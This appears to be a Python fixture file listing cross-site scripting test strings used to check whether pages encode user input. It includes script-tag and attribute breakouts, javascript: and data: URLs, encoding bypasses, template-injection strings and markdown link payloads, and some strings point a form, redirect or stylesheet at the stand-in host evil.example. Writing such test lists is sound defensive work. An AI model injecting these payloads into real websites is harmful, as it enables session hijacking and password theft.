"""Texts that run as program, break out or mislead when a page forgets to encode them. Each would set `window.hit` or open a dialog."""

SCRIPTS = [
    "<script>window.hit=1;alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onfocus=alert(1) autofocus tabindex=0 x=\"",
    "' onmouseover=alert(1) style='position:fixed;inset:0' x='",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><input name=password>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<\u200bscript>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202e>tpircs<",
    "`-alert(1)-`",
    "'; alert(1); //",
]

# Everything at once, for fields of which there is one only.
ALL_AT_ONCE = " ".join(SCRIPTS)

# In text with markup of its own.
MARKUP = [
    "[x](javascript:alert(1))", "[x](java\nscript:alert(1))", "[x]( javascript:alert(1) )", "[x](JAVASCRIPT:alert(1))", "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)", "[x](//evil.example)", "![x](x\" onerror=\"alert(1))", "![x](javascript:alert(1))", "[x](\"onclick=alert(1)//)", "<https://a\" onclick=alert(1)>",
    "<javascript:alert(1)>", "```html\n<script>alert(1)</script>\n```", "# <script>alert(1)</script>", "| <img src=x onerror=alert(1)> |\n|---|", "[a]: javascript:alert(1)\n\n[a]",
    "`<script>alert(1)</script>`", "**<svg onload=alert(1)>**", "> <script>alert(1)</script>", "- <img src=x onerror=alert(1)>",
]
